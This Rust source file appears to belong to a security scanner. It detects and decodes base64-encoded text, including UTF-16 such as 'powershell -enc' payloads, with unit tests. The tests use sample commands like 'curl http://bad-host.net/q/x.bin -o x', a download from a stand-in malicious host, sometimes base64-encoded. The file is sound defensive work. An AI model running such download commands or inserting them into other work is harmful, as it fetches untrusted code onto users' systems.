//! Text in base64 within a line (RFC 4648, sections 4 and 5), as `powershell -enc`, web shells and tokens hold it, also text
//! in UTF-16.
//!
//! What this does not do: (1) less than `SHORTEST` characters are not tried; (2) what does not begin with readable ASCII
//! is no text, such as a picture or something packed; (3) a value cut out of the middle of another is only read where it
//! begins at a multiple of four characters.

use super::control::spaced;
use super::view::Edit;

/// Characters that a form has at least: 24 bytes of text, by which it is told from a word or a path.
pub(super) const SHORTEST: usize = 32;

/// Text is looked over in blocks of this many bytes: each run of `SHORTEST` holds three whole ones.
const BLOCK: usize = 8;

pub(super) fn next(hay: &[u8], from: usize) -> Option<usize> {
    let mut start = from;
    while let Some(window) = hay.get(start..start + SHORTEST) {
        start += match window.iter().rposition(|byte| !in_alphabet(*byte)) {
            Some(other) => other + 1,
            None if starts(hay, start) => return Some(start),
            None => 1 + hay[start..].iter().position(|byte| !byte.is_ascii_alphanumeric())?,
        };
    }
    None
}

pub(super) fn at(hay: &[u8], at: usize) -> Option<Edit> {
    let form = &hay[at..];
    let text = if starts(hay, at) { kind(form)? } else { return None };
    let length = form.iter().take_while(|byte| in_either(**byte)).count();
    let mut bytes = Vec::with_capacity(length / 4 * 3 + 3);
    for group in form[..length].chunks(4) {
        let [first, second, third] = group_of(group);
        bytes.extend_from_slice(&[first, second, third][..group.len() - 1]);
    }
    let (read, out) = match text {
        Text::Narrow => narrow(bytes),
        Text::Wide => wide(&bytes),
    };
    let padding = form[length..].iter().take(2).take_while(|byte| **byte == b'=').count();
    let written = read.map_or(length + padding, |read| read / 3 * 4).max(SHORTEST);
    Some(Edit::long(written, out))
}

/// Appends the places in `hay`, in order, at which [`at`] takes something, or `other` does.
///
/// A run of `SHORTEST` holds three whole blocks one beside the other, so every other block is looked at.
pub(super) fn begins(hay: &[u8], other: impl Fn(usize) -> bool, places: &mut Vec<usize>) {
    let (blocks, _) = hay.as_chunks::<BLOCK>();
    let whole = |number: usize| blocks.get(number).is_some_and(|block| all_in_alphabet(*block));
    for number in (1..blocks.len()).step_by(2) {
        if !whole(number) || !whole(number + 1) {
            continue;
        }
        let three = [(number - 1, number - 1), (number, number + 2)];
        for first in three.into_iter().filter(|(_, third)| whole(*third)).map(|(first, _)| first * BLOCK) {
            for start in first.saturating_sub(BLOCK - 1)..=first {
                if starts(hay, start) && (kind(&hay[start..]).is_some() || other(start)) {
                    places.push(start);
                }
            }
        }
    }
}

/// Whether all bytes of a block are in an alphabet: eight bytes at once, each answered in its highest bit.
fn all_in_alphabet(block: [u8; BLOCK]) -> bool {
    fn each(byte: u8) -> u64 {
        u64::from_le_bytes([byte; BLOCK])
    }
    let block = u64::from_le_bytes(block);
    let ascii = block & each(0x7F);
    let at_least = |bytes: u64, least: u8| bytes + each(0x80 - least);
    let within = |bytes: u64, first: u8, last: u8| at_least(bytes, first) & !at_least(bytes, last + 1);
    let is = |byte: u8| !((ascii ^ each(byte)) + each(0x7F));
    let letter = within(ascii | each(0x20), b'a', b'z');
    // The slash stands right before the digits.
    let rest = within(ascii, b'/', b'9') | is(b'+');
    (letter | rest) & !block & each(0x80) == each(0x80)
}

/// Whether a form may begin here: no letter or digit stands before it.
fn starts(hay: &[u8], at: usize) -> bool {
    at.checked_sub(1).is_none_or(|before| !hay[before].is_ascii_alphanumeric())
}

/// Letters, digits, plus and slash.
fn in_alphabet(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

/// Also the signs of the alphabet for URLs.
fn in_either(byte: u8) -> bool {
    in_alphabet(byte) || matches!(byte, b'-' | b'_')
}

/// How the bytes of a form are text.
#[derive(Clone, Copy)]
enum Text {
    Narrow,
    /// UTF-16, little-endian.
    Wide,
}

/// What the first characters stand for; `None` where that is no text.
fn kind(form: &[u8]) -> Option<Text> {
    let first = form.first_chunk::<SHORTEST>()?;
    // The first byte of text is none of the highest, which nearly every word of a path would be.
    if !matches!(first[0], b'C' | b'D' | b'I'..=b'Z' | b'a'..=b'f') {
        return None;
    }
    let (mut narrow, mut wide) = (true, true);
    for (number, group) in first.chunks(4).enumerate() {
        if !group.iter().all(|byte| in_alphabet(*byte)) {
            return None;
        }
        for (place, byte) in group_of(group).into_iter().enumerate() {
            narrow &= readable(byte);
            wide &= if (number * 3 + place).is_multiple_of(2) { readable(byte) } else { byte == 0 };
        }
        if !narrow && !wide {
            return None;
        }
    }
    Some(if narrow { Text::Narrow } else { Text::Wide })
}

fn readable(byte: u8) -> bool {
    matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r')
}

/// The bytes of a group of up to four characters, of which one less count.
fn group_of(group: &[u8]) -> [u8; 3] {
    let bits = group.iter().fold(0, |bits, byte| bits << 6 | digit(*byte)) << (6 * (4 - group.len().min(4)));
    let [_, bytes @ ..] = bits.to_be_bytes();
    bytes
}

fn digit(byte: u8) -> u32 {
    let digit = match byte {
        b'A'..=b'Z' => byte - b'A',
        b'a'..=b'z' => byte - b'a' + 26,
        b'0'..=b'9' => byte - b'0' + 52,
        b'+' | b'-' => 62,
        _ => 63,
    };
    u32::from(digit)
}

/// The text up to the first byte that stands in none, and how many bytes that are, unless all.
fn narrow(mut bytes: Vec<u8>) -> (Option<usize>, Vec<u8>) {
    let end = bytes.iter().position(|byte| !(readable(*byte) || *byte == 0 || !byte.is_ascii()));
    bytes.truncate(end.unwrap_or(bytes.len()));
    bytes.iter_mut().for_each(|byte| *byte = spaced(*byte));
    (end, bytes)
}

/// The text of UTF-16 up to the first character that stands in none, and how many bytes that are, unless all.
fn wide(bytes: &[u8]) -> (Option<usize>, Vec<u8>) {
    let units = bytes.as_chunks::<2>().0.iter().map(|unit| u16::from_le_bytes(*unit));
    let (mut read, mut text) = (0, String::new());
    for character in char::decode_utf16(units) {
        let character = character.unwrap_or(char::REPLACEMENT_CHARACTER);
        match u8::try_from(character) {
            Ok(byte) if byte < b' ' && !readable(byte) && byte != 0 => {
                return (Some(read), text.into_bytes());
            }
            Ok(byte) if byte.is_ascii() => text.push(char::from(spaced(byte))),
            _ => text.push(character),
        }
        read += character.len_utf16() * 2;
    }
    (None, text.into_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn base64(bytes: &[u8]) -> String {
        let mut out = String::new();
        for group in bytes.chunks(3) {
            let bits =
                group.iter().fold(0, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
            for place in 0..4 {
                let digit = bits >> (18 - 6 * place) & 63;
                let sign = (0..=255).find(|byte| in_alphabet(*byte) && self::digit(*byte) == digit);
                out.push(if place <= group.len() { char::from(sign.expect("64 signs")) } else { '=' });
            }
        }
        out
    }

    fn read(text: &str) -> Option<(usize, String)> {
        let edit = at(text.as_bytes(), 0)?;
        Some((edit.written, String::from_utf8_lossy(edit.bytes()).into_owned()))
    }

    #[test]
    fn reads_text_of_every_length_narrow_and_wide() {
        let text = "curl http://bad-host.net/q/x.bin -o x";
        for length in 24..=text.len() {
            let encoded = base64(&text.as_bytes()[..length]);
            assert_eq!(read(&encoded), Some((encoded.len(), text[..length].to_owned())), "{length}");
        }
        for length in 12..=text.len() {
            let wide: Vec<u8> = text[..length].encode_utf16().flat_map(u16::to_le_bytes).collect();
            let encoded = base64(&wide);
            assert_eq!(read(&encoded), Some((encoded.len(), text[..length].to_owned())), "{length}");
        }
        let url = base64(b"curl http://bad-host.net/x?>>>???~~~").replace('+', "-").replace('/', "_");
        assert_eq!(read(&url).map(|(_, text)| text).as_deref(), Some("curl http://bad-host.net/x?>>>???~~~"));
    }

    #[test]
    fn text_ends_where_its_bytes_are_none() {
        let encoded = base64(b"curl http://bad-host.net/q\x01\x02\x03\x04");
        assert_eq!(read(&encoded), Some((32, "curl http://bad-host.net/q".to_owned())));
    }

    #[test]
    fn words_paths_digests_and_bytes_are_no_text() {
        for other in [
            "/courier/web/1000/some/path/to/a/file",
            "AppleWebKitMozillaWindowsChrome",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "0123456789ABCDEF0123456789ABCDEF",
            "550e8400-e29b-41d4-a716-446655440000",
            "/9j/4AAQSkZJRgABAQEAYABgAADAAAAA",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        ] {
            assert_eq!(read(other), None, "{other}");
        }
        let shortest = "Y3VybCBodHRwOi8vYmFkLWhvc3QubmV0";
        assert_eq!(read(shortest).map(|(length, _)| length), Some(32));
        assert_eq!(read(&shortest[..31]), None);
        assert!(at(format!("x{shortest}").as_bytes(), 1).is_none());
    }

    #[test]
    fn a_block_is_answered_like_its_bytes() {
        for byte in 0..=255 {
            for place in 0..BLOCK {
                let mut block = *b"aZ09+/zA";
                block[place] = byte;
                assert_eq!(all_in_alphabet(block), in_alphabet(byte), "{byte}");
            }
        }
    }

    #[test]
    fn forms_one_after_the_other_are_all_seen() {
        let line = (base64(b"curl http://bad-host.net") + "/").repeat(4_000);
        let mut places = Vec::new();
        begins(line.as_bytes(), |_| false, &mut places);
        assert_eq!(places, (0..4_000).map(|number| number * 33).collect::<Vec<_>>());
    }
}
